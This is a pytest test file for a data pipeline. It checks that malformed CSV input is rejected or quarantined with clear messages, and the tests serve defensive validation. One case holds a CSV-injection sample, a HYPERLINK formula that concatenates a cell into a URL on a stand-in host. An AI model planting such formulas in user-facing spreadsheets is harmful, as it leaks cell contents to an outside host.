"""Issue 4, quarantine and bad input: the corpus in tests/corpus/ (its README lists the cases).

Each case drops one corpus file, under its own name, beside the mini fixture's files and runs
the pipeline again on a copy of a warehouse built from the fixture alone (built once per
module). Most cases run the entity's raw asset and everything downstream of it (staging, its
checks, the marts); two cases repeat in a full `refresh_all`-style run.

- File-level problems: the run fails in the entity's raw step with one line naming the file,
  the row and/or the column and what was expected, and every table is exactly as before.
- Row-level problems: the run succeeds; the bad rows are in quarantine.rejected_rows with
  their column and reason, the good rows are staged with the right values, every
  reconciliation row adds up, and the marts change only where the good rows belong.
"""

from __future__ import annotations

import json
import math
import shutil
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import date
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from assets.resources import Inputs, Warehouse
from helpers import MINI_INPUT, TESTS_DIR, all_assets, copy_input, materialize_everything, query
from ledger.quality.suites import load_suites
from ledger.quality.validate import validate_query
from ledger.transforms.discovery import entity_of
from ledger.transforms.entities import ENTITIES
from ledger.warehouse import load_sql, sql_params

CORPUS = TESTS_DIR / "corpus"
AS_OF = "2025-09-30"
SCHEMAS = ("raw", "ref", "staging", "marts", "quarantine", "audit")
#: Columns that say when and by which run a row was written, not what it says.
RUN_COLUMNS = {"run_id", "loaded_at", "quarantined_at", "logged_at", "touched_at"}
#: Tracebacks and parser internals a user must never get as the message.
NOT_FOR_USERS = ("Traceback (most recent call last)", 'File "', "polars.exceptions", "ComputeError", "duckdb.", "Exception:")


# --- running ---------------------------------------------------------------------------


def run_pipeline(db: Path, folder: Path, entity: str | None):
    """The entity's raw asset and everything downstream of it, or (entity None) a full run."""
    if entity is None:
        return materialize_everything(db, folder, AS_OF, raise_on_error=False)
    return dg.materialize(
        all_assets(),
        selection=dg.AssetSelection.assets(["raw", entity]).downstream(),
        resources={
            "warehouse": Warehouse(path=str(db)),
            "inputs": Inputs(
                input_dir=str(folder),
                as_of=AS_OF,
                quotes_dir=str(folder / "quotes"),
                landing_dir=str(folder / "landing"),
            ),
        },
        raise_on_error=False,
    )


def snapshot(db: Path, *, content_only: bool = False) -> dict[str, list[dict]]:
    """Every table of the warehouse as a list of rows (dicts), in a stable order.
    `content_only` drops the columns saying when and by which run a row was written."""
    out = {}
    with duckdb.connect(str(db), read_only=True) as con:
        names = con.execute(
            "select table_schema, table_name from information_schema.tables order by all"
        ).fetchall()  # tables and views (raw.<entity> is a view over raw.<entity>_rows)
        for schema, name in names:
            if schema not in SCHEMAS:
                continue
            cursor = con.execute(f'select * from "{schema}"."{name}"')
            columns = [d[0] for d in cursor.description]
            rows = [dict(zip(columns, r)) for r in cursor.fetchall()]
            if content_only:
                rows = [{k: v for k, v in r.items() if k not in RUN_COLUMNS} for r in rows]
            out[f"{schema}.{name}"] = sorted(rows, key=repr)
    return out


def without_run_columns(tables: dict[str, list[dict]]) -> dict[str, list[dict]]:
    """A snapshot as `snapshot(..., content_only=True)` would have taken it."""
    return {
        t: sorted(({k: v for k, v in r.items() if k not in RUN_COLUMNS} for r in rows), key=repr) for t, rows in tables.items()
    }


@dataclass
class Outcome:
    """One run with corpus files dropped in."""

    db: Path
    folder: Path
    entity: str
    files: tuple[str, ...]
    result: dg.ExecuteInProcessResult

    @property
    def file(self) -> str:
        return self.files[0]

    @property
    def failures(self):
        return [e for e in self.result.all_events if e.is_step_failure]

    def failure_summary(self) -> str:
        return "; ".join(f"{e.step_key}: {e.step_failure_data.error.message.strip()}" for e in self.failures)


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> tuple[Path, dict]:
    """The mini fixture materialized once (everything), and its tables."""
    folder = copy_input(MINI_INPUT, tmp_path_factory.mktemp("corpus_baseline") / "input")
    db = folder.parent / "warehouse.duckdb"
    materialize_everything(db, folder, AS_OF)
    return db, snapshot(db)


@pytest.fixture(scope="module")
def drop(baseline, tmp_path_factory) -> Callable[..., Outcome]:
    """`drop(file, ...)` → the outcome of running with those corpus files added. A file is a
    corpus name or (corpus name, name to drop it as). Runs are cached for the module, so a
    test about one detail of a case reuses the case's run."""
    base_db, _ = baseline
    cache: dict[tuple, Outcome] = {}

    def run(*files: str | tuple[str, str], full: bool = False) -> Outcome:
        key = (files, full)
        if key not in cache:
            pairs = [(f, f) if isinstance(f, str) else f for f in files]
            work = tmp_path_factory.mktemp("case")
            db = work / "warehouse.duckdb"
            shutil.copy(base_db, db)  # no process has it open: a plain copy is a whole warehouse
            folder = copy_input(MINI_INPUT, work / "input")
            for source, name in pairs:
                shutil.copy(CORPUS / source, folder / name)
            entity = entity_of(folder / pairs[0][1])
            assert entity is not None, f"{pairs[0][1]} does not name an entity"
            result = run_pipeline(db, folder, None if full else entity)
            cache[key] = Outcome(db, folder, entity, tuple(name for _, name in pairs), result)
        return cache[key]

    return run


# --- assertions shared by the cases ----------------------------------------------------------


def assert_reconciliation_adds_up(db: Path) -> None:
    for r in query(db, "select * from audit.reconciliation"):
        assert r["rows_read"] == r["rows_loaded"] + r["rows_duplicate"] + r["rows_quarantined"], r


def reconciliation_of_run(out: Outcome) -> dict[str, dict]:
    rows = query(out.db, "select * from audit.reconciliation where run_id = ?", [out.result.run_id])
    files = [r["source_file"] for r in rows]
    assert len(files) == len(set(files)), f"more than one reconciliation row per file: {files}"
    return {r["source_file"]: r for r in rows}


def mart_changes(before: list[dict], after: list[dict]) -> tuple[list[dict], list[dict]]:
    """(rows gone, rows new) between two versions of a table, as multisets."""
    b, a = Counter(map(repr, before)), Counter(map(repr, after))
    by_repr = {repr(r): r for r in [*before, *after]}
    gone = [by_repr[k] for k, n in (b - a).items() for _ in range(n)]
    new = [by_repr[k] for k, n in (a - b).items() for _ in range(n)]
    return gone, new


def close(actual, expected) -> bool:
    if isinstance(expected, float) and actual is not None:
        return math.isclose(actual, expected, rel_tol=1e-9)
    return actual == expected


# --- file-level cases ------------------------------------------------------------------------


@dataclass(frozen=True)
class FileCase:
    file: str
    row: int | None
    column: str | None
    phrases: tuple[str, ...]


FILE_CASES = [
    FileCase("funding_events_empty.csv", None, None, ("the file is empty", "expected a header row and data rows")),
    FileCase(
        "funding_events_wrong_delimiter.csv",
        1,
        "event_id",
        ("missing required column(s) event_id, company, round_id", "is the file separated by ';' or tabs instead of ','?"),
    ),
    FileCase(
        "cash_burn_tab_delimited.csv",
        1,
        "figure_id",
        ("missing required column(s) figure_id", "is the file separated by ';' or tabs instead of ','?"),
    ),
    FileCase(
        "funding_events_missing_column.csv",
        1,
        "currency",
        ("missing required column(s) currency for funding_events", "the header has: event_id, company"),
    ),
    FileCase(
        "funding_events_not_utf8.csv",
        3,
        None,
        ("not UTF-8 text (byte 0xe9 at byte offset", "save the file as UTF-8 CSV"),
    ),
    FileCase(
        "funding_events_truncated.csv",
        3,
        None,
        ("a quoted field is never closed", "is the file truncated?"),
    ),
    FileCase("funding_events_ragged_row.csv", 3, None, ("has 25 fields where the header has 23",)),
    # issue 11: a gzip file named .csv was "not UTF-8 text (byte 0x8b …)"
    FileCase("funding_events_gzip.csv", None, None, ("is gzip-compressed: decompress it first",)),
]


@pytest.mark.parametrize(
    "case",
    [
        *[pytest.param(c, id=c.file.removesuffix(".csv")) for c in FILE_CASES],
        pytest.param(
            FileCase("funding_events_stray_quote.csv", 2, "notes", ('"', "not quoted")),
            id="funding_events_stray_quote",
        ),
    ],
)
def test_a_file_level_problem_stops_the_file_and_changes_nothing(drop, baseline, case: FileCase):
    out = drop(case.file)
    assert not out.result.success
    assert [e.step_key for e in out.failures] == [f"raw__{out.entity}"], out.failure_summary()
    data = out.failures[0].step_failure_data
    path = out.folder / case.file

    # What the UI and `make run` show: one line, the file first, then row, column, problem.
    message = data.user_failure_data.description
    assert "\n" not in message and not any(s in message for s in NOT_FOR_USERS), message
    where = [str(path)] + ([f"row {case.row}"] if case.row else []) + ([f"column {case.column!r}"] if case.column else [])
    assert message.startswith(", ".join(where) + ": "), message
    for phrase in case.phrases:
        assert phrase in message
    metadata = {k: v.value for k, v in data.user_failure_data.metadata.items()}
    assert metadata["file"] == str(path)
    assert metadata.get("row") == case.row and metadata.get("column") == case.column
    # …and it is the input error itself, raised as a Failure that is not retried.
    assert data.error.cause.cls_name == "InputFileError"
    assert message in data.error.cause.message

    # The warehouse is exactly as it was: raw, staging, marts, quarantine, audit, ref.
    assert snapshot(out.db) == baseline[1]
    assert_reconciliation_adds_up(out.db)


def test_a_bad_file_in_a_full_run_stops_only_its_entity(drop, baseline):
    """refresh_all-style: the other entities load as usual; nothing of funding_events moves."""
    out = drop("funding_events_not_utf8.csv", full=True)
    assert not out.result.success
    assert [e.step_key for e in out.failures] == ["raw__funding_events"], out.failure_summary()
    message = out.failures[0].step_failure_data.user_failure_data.description
    assert message.startswith(f"{out.folder / 'funding_events_not_utf8.csv'}, row 3: not UTF-8 text")

    before, after = baseline[1], snapshot(out.db)
    for table in ("raw.funding_events", "staging.funding_events", "quarantine.rejected_rows"):
        assert after[table] == before[table], table  # run ids and load times included
    # The other entities were reloaded (new run ids and load times) with the same content.
    # (ref tables are reloaded too, and keep the absolute path of this case's input folder.)
    content_before, content_after = without_run_columns(before), snapshot(out.db, content_only=True)
    for table in before:
        if table.startswith(("marts.", "staging.", "raw.")):
            assert content_after[table] == content_before[table], table
    # Reconciliation: the old rows stay; this run added one row per file of every other entity.
    assert all(r in after["audit.reconciliation"] for r in before["audit.reconciliation"])
    this_run = reconciliation_of_run(out)
    assert {r["entity"] for r in this_run.values()} == set(ENTITIES) - {"funding_events"}
    assert_reconciliation_adds_up(out.db)


# --- row-level cases -------------------------------------------------------------------------


@dataclass(frozen=True)
class Rejected:
    """A quarantined row: its row number, the column named (None: asserted by its own test)
    and a phrase of the reason."""

    row: int
    column: str | None
    phrase: str


def lab_b_only(mart: str, row: dict) -> bool:
    companies = (row.get("company"), row.get("from_company"), row.get("to_company"))
    return "Lab B" in companies or "Lab B" in (row.get("path") or "")


def nothing(mart: str, row: dict) -> bool:
    return False


@dataclass(frozen=True)
class RowCase:
    file: str
    counts: tuple[int, int, int, int] | None  # read, loaded, duplicate, quarantined (None: no rows)
    rejected: tuple[Rejected, ...] = ()
    staged: dict[str, dict] = field(default_factory=dict)  # id → expected staged values
    may_change: Callable[[str, dict], bool] = lab_b_only  # which mart rows the good rows may change


def usd(low, mid=None, high=None, prefix="amount_usd"):
    mid = low if mid is None else mid
    high = mid if high is None else high
    return {f"{prefix}_low": float(low), f"{prefix}_mid": float(mid), f"{prefix}_high": float(high)}


ROW_CASES = [
    RowCase(
        "funding_events_amount_formats.csv",
        (9, 4, 0, 5),
        (
            Rejected(6, "amount_high", "unknown unit 'zillion' in '12 zillion'"),
            Rejected(7, "amount_high", "the amount has a unit suffix and the unit column gives one too"),
            Rejected(8, "currency", "the amount's symbol could be JPY|CNY: say which in the currency column"),
            Rejected(9, "currency", "the amount is written in EUR but the currency column says USD"),
            Rejected(10, "amount_high", "cannot read 'a lot' as an amount"),
        ),
        {
            "c-amt-dollars": {"currency": "USD", "fx_units_per_usd": 1.0, **usd(36742)},
            "c-amt-suffix": {"currency": "USD", "amount_qualifier": "exact", **usd(1.2e9)},
            "c-amt-oku": {"currency": "JPY", "fx_units_per_usd": 150.0, "fx_rate_date": date(2025, 1, 1), **usd(3e11 / 150)},
            "c-amt-mrd": {"currency": "EUR", "fx_units_per_usd": 0.9, "fx_rate_date": date(2025, 1, 1), **usd(1.7e9 / 0.9)},
        },
    ),
    RowCase(
        "funding_events_date_formats.csv",
        (18, 11, 0, 7),
        (
            # issue 11: 05/04/2025 was read as 4 May (US); it may as well be 5 April
            Rejected(4, "announced_date", "05/04/2025 is ambiguous: 5 April or 4 May? write 2025-04-05 or 2025-05-04"),
            Rejected(12, "announced_date", "2025-02-30 is not a calendar date"),
            Rejected(13, "announced_date", "2025-13-01 is not a calendar date"),
            Rejected(14, "announced_date", "cannot read 31/12/2025 as a date (expected YYYY-MM-DD)"),
            Rejected(15, "announced_date", "cannot read 02/29/2025 as a date"),
            Rejected(16, "closed_date", "2025-04-31 is not a calendar date"),
            Rejected(17, "announced_date", "required value is missing"),
        ),
        {
            f"c-date-{k}": {"announced_date": d, **usd(1e6)}
            for k, d in [
                ("iso", date(2025, 5, 2)),
                ("slashes", date(2025, 5, 3)),
                ("us", date(2025, 5, 13)),  # 05/13/2025: 13 is no month, so US month first
                ("us-same-day", date(2025, 4, 4)),  # 04/04/2025: both readings agree
                ("dotted", date(2025, 5, 5)),
                ("day-month-name", date(2025, 5, 6)),
                ("month-name-day", date(2025, 5, 7)),
                ("timestamp", date(2025, 5, 8)),
                ("month", date(2025, 6, 1)),
                ("month-name", date(2025, 7, 1)),
                ("year", date(2025, 1, 1)),
            ]
        },
    ),
    RowCase(
        "funding_events_negative_amount.csv",
        (5, 1, 0, 4),
        (
            Rejected(2, "amount_high", "negative amount -5"),
            Rejected(3, "amount_high", "negative amount (1,234)"),
            Rejected(4, "amount_high", "negative amount −2"),
            Rejected(5, "vendor_amount_high", "negative amount -1"),
        ),
        {"c-neg-ok": usd(5e6)},
    ),
    RowCase(
        "compute_commitments_bad_rows.csv",
        (6, 1, 0, 5),
        (
            Rejected(2, "seller", "buyer and seller are the same company"),
            Rejected(3, "binding", "a letter of intent (status loi) is not binding"),
            Rejected(4, "seller", "unknown company MegaCloud"),
            Rejected(5, "payment_schedule", "payment_schedule adds up to more than the commitment's amount"),
            Rejected(6, "amount_high", "negative amount"),
        ),
        {
            "c-ok-eur": {
                "buyer": "Lab B",
                "seller": "ChipCo",
                "currency": "EUR",
                "binding": True,
                "end_date": date(2026, 2, 28),
                **usd(500e6 / 0.9),
            }
        },
    ),
    RowCase(
        "cash_burn_negative_amount.csv",
        (4, 1, 0, 3),
        (
            # The column these name is asserted by test_a_negative_burn_names_the_column_it_is_written_in.
            Rejected(2, None, "a negative net_burn"),
            Rejected(3, None, "a negative revenue"),
            Rejected(4, None, "a negative cash_on_hand"),
        ),
        {
            "c-ocf-negative-ok": {
                "metric": "operating_cash_flow",
                "currency": "EUR",
                "period_months": 6.0,
                **usd(-90e6 / 0.9),
                **usd(-90e6 / 0.9 / 6, prefix="monthly_usd"),
            }
        },
        may_change=nothing,  # no mart reads operating cash flow
    ),
    RowCase(
        "funding_events_low_gt_high.csv",
        (3, 1, 0, 2),
        (
            Rejected(2, "amount_high", "low 10 is greater than high 5"),
            Rejected(3, "vendor_amount_high", "low 2 is greater than high 1"),
        ),
        {"c-range-ok": usd(1e8, 1.5e8, 2e8)},
    ),
    RowCase(
        "funding_events_unknown_currency.csv",
        (3, 1, 0, 2),
        (
            Rejected(2, "currency", "unknown currency CHF (no FX rates for it)"),
            Rejected(3, "currency", "no JPY rate on or before 2023-06-01 in fx_rates.csv"),
        ),
        {"c-cur-lowercase-eur": {"currency": "EUR", "fx_units_per_usd": 0.9, "fx_rate_date": date(2025, 1, 1), **usd(1e8)}},
    ),
    RowCase(
        "funding_events_unknown_company.csv",
        (5, 1, 0, 4),
        (
            Rejected(2, "company", "unknown company Lab Z (add it or an alias to reference/company_aliases.csv)"),
            Rejected(3, "vendor_investor", "unknown company Chip Corp"),
            Rejected(4, "vendor_investor", "Fund X is not flagged sells_compute in company_aliases.csv"),
            Rejected(5, "company", "required value is missing"),
        ),
        {
            "c-co-alias-vendor": {
                "company": "Lab B",
                "vendor_investor": "ChipCo",
                **usd(1e7),
                **usd(1e7, prefix="vendor_amount_usd"),
            }
        },
    ),
    RowCase(
        "gpu_prices_unknown_gpu_model.csv",
        (4, 1, 0, 3),
        (
            Rejected(2, "gpu_model", "unknown GPU model H200 (add it or an alias to reference/gpu_catalog.csv)"),
            Rejected(3, "gpu_model", "unknown GPU model A100"),
            Rejected(4, "gpu_model", "required value is missing"),
        ),
        {
            "c-gpu-alias": {
                "gpu_model": "H100",
                "price_unit": "usd_per_gpu",
                "observed_date": date(2024, 6, 15),
                **usd(36742, prefix="usd_per_gpu"),
            }
        },
        may_change=lambda mart, row: (
            (mart in ("gpu_price_index", "gpu_price_provider_days") and row["month"] == date(2024, 6, 1))
            or (mart == "gpu_price_index_daily" and row["day"].replace(day=1) == date(2024, 6, 1))
        ),
    ),
    RowCase(
        "funding_events_duplicate_rows.csv",
        (5, 1, 3, 1),
        (Rejected(5, "event_id", "c-dup is already used by funding_events_duplicate_rows.csv:2 with different values"),),
        {"c-dup": {"row_number": 2, **usd(5e6)}},
    ),
    RowCase("funding_events_same_file_twice.csv", (6, 0, 6, 0), may_change=nothing),
    RowCase(
        "funding_events_extra_columns.csv",
        (1, 1, 0, 0),
        staged={"c-extra": usd(7e6)},
    ),
    RowCase(  # issue 11: staged as written; the warn check text_not_formula flags it
        "funding_events_formula_text.csv",
        (1, 1, 0, 0),
        staged={"c-formula": {"notes": '=HYPERLINK("http://x"&A1,"source")', **usd(7e6)}},
    ),
    RowCase("funding_events_header_only.csv", None, may_change=nothing),
    # issue 11, hostile files: values that read but cannot be right, or read two ways
    RowCase(
        "funding_events_implausible_dates.csv",
        (7, 2, 0, 5),
        (
            Rejected(2, "announced_date", "2999-01-01 is outside the plausible dates 2000-01-01 to 2100-12-31"),
            Rejected(3, "announced_date", "1900-01-01 is outside the plausible dates"),
            Rejected(4, "closed_date", "2101-01-01 is outside the plausible dates"),
            Rejected(5, "source_date", "1999-12-31 is outside the plausible dates"),
            Rejected(6, "announced_date", "05/13/25 (read as 0025-05-13) is outside the plausible dates"),
        ),
        {
            "c-dt-first-day": {"announced_date": date(2000, 1, 1), **usd(1e6)},
            "c-dt-last-day": {"closed_date": date(2100, 12, 31), **usd(1e6)},
        },
    ),
    RowCase(
        "funding_events_zero_amounts.csv",
        (8, 1, 0, 7),
        (
            Rejected(2, "amount_high", "amount is zero (0)"),
            Rejected(3, "amount_high", "amount is zero (-0)"),
            Rejected(4, "amount_high", "amount is zero (0.0)"),
            Rejected(5, "amount_high", "amount is zero ($0)"),
            Rejected(6, "vendor_amount_high", "vendor_amount is zero (0)"),
            Rejected(7, "amount_high", "amount is zero (0)"),  # a valuation of zero
            Rejected(8, "round_total_high", "round_total is zero (0)"),
        ),
        {"c-zero-range-from-zero": usd(0, 2.5e6, 5e6)},
    ),
    RowCase(
        "funding_events_ambiguous_thousands.csv",
        (9, 5, 0, 4),
        (
            Rejected(
                2,
                "amount_high",
                "1.234 in EUR is ambiguous: is the dot a decimal point (1.234) or a thousands separator (1234)? "
                "write 1.2340 or 1234",
            ),
            Rejected(3, "amount_high", "1,234 in EUR is ambiguous: is the comma a decimal comma (1.234)"),
            Rejected(4, "amount_high", "€12.500 Mrd in EUR is ambiguous"),  # the currency from the symbol
            Rejected(5, "vendor_amount_high", "1.500 in EUR is ambiguous"),
        ),
        {
            "c-sep-four-digits": {"currency": "EUR", **usd(1.234e6 / 0.9)},
            "c-sep-none": {"currency": "EUR", **usd(1234e6 / 0.9)},
            "c-sep-usd": {"currency": "USD", **usd(1.234e6)},
            "c-sep-mrd": {"currency": "EUR", **usd(1.7e9 / 0.9)},
            "c-sep-both": {"currency": "EUR", **usd(1234.5e6 / 0.9)},
        },
    ),
    RowCase(
        "cash_burn_zero_amounts.csv",
        (6, 4, 0, 2),
        (
            Rejected(2, "amount_high", "amount is zero (0)"),  # gross burn
            Rejected(3, "amount_high", "amount is zero (-0)"),  # capex
        ),
        {
            "c-zero-net-burn": {"metric": "net_burn", **usd(0), **usd(0, prefix="monthly_usd")},
            "c-zero-revenue": {"metric": "revenue", **usd(0)},
            "c-zero-cash": {"metric": "cash_on_hand", **usd(0)},
            "c-zero-lfcf": {"metric": "levered_free_cash_flow", **usd(0)},
        },
    ),
    RowCase(
        "clusters_zero_capex.csv",
        (4, 1, 0, 3),
        (
            Rejected(2, "reported_capex_high", "reported_capex is zero (0)"),
            Rejected(3, "calculated_capex_high", "calculated_capex is zero (-0)"),
            Rejected(4, "target_date", "2999-12-31 is outside the plausible dates"),
        ),
        {"c-cl-far-target": {"status": "planned", "gpu_count_mid": 0.0, "target_date": date(2045, 6, 30)}},
    ),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c.file.removesuffix(".csv")) for c in ROW_CASES])
def test_bad_rows_are_quarantined_and_good_rows_staged(drop, baseline, case: RowCase):
    out = drop(case.file)
    entity, file, db = out.entity, case.file, out.db
    id_column = ENTITIES[entity].id_column
    assert out.result.success, out.failure_summary()
    before = baseline[1]

    # raw: every record of the file, numbered as a spreadsheet shows it.
    read = case.counts[0] if case.counts else 0
    raw = query(db, f"select row_number from raw.{entity} where source_file = ? order by row_number", [file])
    assert [r["row_number"] for r in raw] == list(range(2, read + 2))

    # audit: one row per file of the entity for this load, each adding up.
    this_run = reconciliation_of_run(out)
    fixture_files = sorted(p.name for p in MINI_INPUT.glob(f"{entity}*.csv"))
    assert set(fixture_files) <= set(this_run)
    if case.counts:
        recon = this_run[file]
        got = (recon["rows_read"], recon["rows_loaded"], recon["rows_duplicate"], recon["rows_quarantined"])
        assert got == case.counts
    assert_reconciliation_adds_up(db)

    # quarantine: exactly the bad rows, each with its column, reason and raw record.
    rejected = query(db, "select * from quarantine.rejected_rows where source_file = ? order by row_number", [file])
    assert [r["row_number"] for r in rejected] == [x.row for x in case.rejected]
    for row, expected in zip(rejected, case.rejected):
        assert row["entity"] == entity
        assert expected.phrase in row["reason"], row["reason"]
        if expected.column is not None:
            assert set(row["column"].split(", ")) == {expected.column}, row
        assert json.loads(row["raw_record"])["row_number"] == expected.row
    others = [r for r in query(db, "select * from quarantine.rejected_rows") if r["source_file"] != file]
    assert others == []  # the fixture's own rows are all good

    # staging: exactly the good rows, with the right values; the fixture's rows as before.
    staged = {r[id_column]: r for r in query(db, f"select * from staging.{entity} where source_file = ?", [file])}
    assert sorted(staged) == sorted(case.staged)
    for key, expected in case.staged.items():
        wrong = {k: (staged[key][k], v) for k, v in expected.items() if not close(staged[key][k], v)}
        assert not wrong, f"{key}: (staged, expected) {wrong}"
    after = snapshot(db)
    table = f"staging.{entity}"
    assert [r for r in after[table] if r["source_file"] != file] == before[table]

    # marts: only rows the good rows belong to may change, and good tranches reach their round.
    for name in (t for t in before if t.startswith("marts.")):
        gone, new = mart_changes(before[name], after[name])
        mart = name.removeprefix("marts.")
        assert all(case.may_change(mart, r) for r in gone + new), f"{name}: gone {gone}, new {new}"
    if entity == "funding_events":
        rounds = {(r["company"], r["round_id"]) for r in after["marts.leverage_rounds"]}
        assert {(r["company"], r["round_id"]) for r in staged.values()} <= rounds


def test_amount_formats_reach_the_round_in_dollars(drop, baseline):
    out = drop("funding_events_amount_formats.csv")
    rounds = {r["round_id"]: r for r in query(out.db, "select * from marts.leverage_rounds")}
    new = rounds["b-c1"]
    assert new["tranche_count"] == 4
    assert math.isclose(new["equity_usd_mid"], 36742 + 1.2e9)
    assert math.isclose(new["debt_usd_mid"], 3e11 / 150 + 1.7e9 / 0.9)  # debt and convertible
    before = {r["round_id"]: r for r in baseline[1]["marts.leverage_rounds"]}
    assert {k: v for k, v in rounds.items() if k != "b-c1"} == before  # Lab A's round a-r1 untouched


def test_a_known_gpu_alias_price_adds_its_month_to_the_index(drop, baseline):
    out = drop("gpu_prices_unknown_gpu_model.csv")
    _, new = mart_changes(baseline[1]["marts.gpu_price_index"], query(out.db, "select * from marts.gpu_price_index"))
    assert [
        (r["month"], r["gpu_model"], r["gpu_variant"], r["provider_family"], r["price_type"], r["quote_count"], r["median_usd"])
        for r in new
    ] == [
        (date(2024, 6, 1), "H100", variant, family, "purchase", 1, 36742.0)
        for variant in (None, "H100")
        for family in (None, "unnamed")
    ]


def test_unknown_columns_are_kept_in_raw_and_ignored_afterwards(drop):
    out = drop("funding_events_extra_columns.csv")
    raw = query(out.db, "select extra_columns from raw.funding_events where event_id = 'c-extra'")
    assert [json.loads(r["extra_columns"]) for r in raw] == [{"analyst": "jd", "page": "12"}]
    columns = {r["column_name"] for r in query(out.db, "select column_name from duckdb_columns() where schema_name = 'staging'")}
    assert not {"analyst", "page"} & columns


def test_the_same_file_twice_adds_nothing_in_a_full_run(drop, baseline):
    corpus, fixture = CORPUS / "funding_events_same_file_twice.csv", MINI_INPUT / "funding_events.csv"
    assert corpus.read_bytes() == fixture.read_bytes()  # the case is a copy, byte for byte
    out = drop("funding_events_same_file_twice.csv", full=True)
    assert out.result.success, out.failure_summary()
    before, after = without_run_columns(baseline[1]), snapshot(out.db, content_only=True)
    for table in before:
        if table.startswith(("marts.", "staging.", "quarantine.")):
            assert after[table] == before[table], table
    recon = reconciliation_of_run(out)
    copy = recon["funding_events_same_file_twice.csv"]
    assert (copy["rows_read"], copy["rows_loaded"], copy["rows_duplicate"], copy["rows_quarantined"]) == (6, 0, 6, 0)
    assert {r["entity"] for r in recon.values()} == set(ENTITIES)  # every entity loaded in the full run
    assert_reconciliation_adds_up(out.db)


def test_a_corpus_file_loaded_twice_counts_its_good_rows_once(drop):
    once = drop("funding_events_amount_formats.csv")
    twice = drop(
        "funding_events_amount_formats.csv", ("funding_events_amount_formats.csv", "funding_events_amount_formats_again.csv")
    )
    assert twice.result.success, twice.failure_summary()
    recon = reconciliation_of_run(twice)
    again = recon["funding_events_amount_formats_again.csv"]
    # the four good rows are duplicates of the first copy; the five bad ones are quarantined again
    assert (again["rows_read"], again["rows_loaded"], again["rows_duplicate"], again["rows_quarantined"]) == (9, 0, 4, 5)
    assert recon["funding_events_amount_formats.csv"]["rows_loaded"] == 4
    assert_reconciliation_adds_up(twice.db)
    marts = [t for t in snapshot(once.db) if t.startswith("marts.")]
    first, second = snapshot(once.db), snapshot(twice.db)
    assert {t: first[t] for t in marts} == {t: second[t] for t in marts}


# --- bugs these cases found, fixed ----------------------------------------------------------------


def test_not_a_number_amounts_are_quarantined(drop):
    out = drop("funding_events_not_a_number.csv")
    rejected = query(
        out.db,
        'select row_number, "column" from quarantine.rejected_rows where source_file = ? order by row_number',
        [out.file],
    )
    assert [(r["row_number"], r["column"]) for r in rejected] == [(2, "amount_high"), (3, "amount_high")]
    assert out.result.success, out.failure_summary()


def test_a_negative_burn_names_the_column_it_is_written_in(drop):
    out = drop("cash_burn_negative_amount.csv")
    rejected = query(
        out.db,
        'select row_number, "column" from quarantine.rejected_rows where source_file = ? order by row_number',
        [out.file],
    )
    assert [(r["row_number"], r["column"]) for r in rejected] == [(2, "amount_high"), (3, "amount_high"), (4, "amount_high")]


def test_a_header_only_file_is_reconciled_as_read(drop):
    out = drop("funding_events_header_only.csv")
    assert out.result.success, out.failure_summary()
    recon = reconciliation_of_run(out).get("funding_events_header_only.csv")
    assert recon is not None, "no reconciliation row for the header-only file"
    assert (recon["rows_read"], recon["rows_loaded"], recon["rows_duplicate"], recon["rows_quarantined"]) == (0, 0, 0, 0)


def test_a_break_even_burn_reaches_the_marts_as_zero_not_minus_zero(drop):
    """Issue 11: "-0" once reached the marts as -0.0; a break-even burn is a burn of 0."""
    out = drop("cash_burn_zero_amounts.csv")
    [burn] = query(out.db, "select * from marts.net_burn where company = 'Lab B'")
    assert burn["figure_id"] == "c-zero-net-burn"
    values = [v for k, v in burn.items() if k.endswith(("_usd_low", "_usd_mid", "_usd_high"))]
    assert values and all(v == 0 and math.copysign(1, v) == 1 for v in values), burn


def test_text_that_reads_as_a_formula_is_flagged_by_a_warning(drop):
    """Issue 11: a note a spreadsheet would run (CSV injection) is staged as written, and
    the warn check text_not_formula names it; the run and the marts go on."""
    out = drop("funding_events_formula_text.csv")
    assert out.result.success, out.failure_summary()
    [evaluation] = [
        e
        for e in out.result.get_asset_check_evaluations()
        if e.check_name == "text_not_formula" and e.asset_key == dg.AssetKey(["staging", "funding_events"])
    ]
    assert not evaluation.passed and evaluation.severity == dg.AssetCheckSeverity.WARN
    metadata = {k: v.value for k, v in evaluation.metadata.items()}
    assert metadata["unexpected_count"] == 1
    assert metadata["unexpected_sample"] == ['=HYPERLINK("http://x"&A1,"source")']


def test_no_text_of_the_bundled_data_reads_as_a_formula(bundled_warehouse):
    """The warn check text_not_formula passes on every staged table of the bundled data."""
    for suite in load_suites():
        [spec] = [e for e in suite.expectations if e.name == "text_not_formula"]
        sql = load_sql(suite.query)
        with duckdb.connect(str(bundled_warehouse), read_only=True) as con:
            [outcome] = validate_query(replace(suite, expectations=[spec]), con, sql, sql_params(sql, {"as_of": "2026-11-01"}))
        assert outcome.passed and outcome.error is None, (suite.name, outcome.sample)


def test_every_corpus_file_is_a_case_and_in_the_readme():
    files = {p.name for p in CORPUS.glob("*.csv")}
    cases = (
        {c.file for c in FILE_CASES}
        | {c.file for c in ROW_CASES}
        | {
            "funding_events_stray_quote.csv",
            "funding_events_not_a_number.csv",
        }
    )
    assert files == cases
    readme = (CORPUS / "README.md").read_text(encoding="utf-8")
    assert all(f"`{f}`" in readme for f in files)
    assert all(entity_of(Path(f)) for f in files)
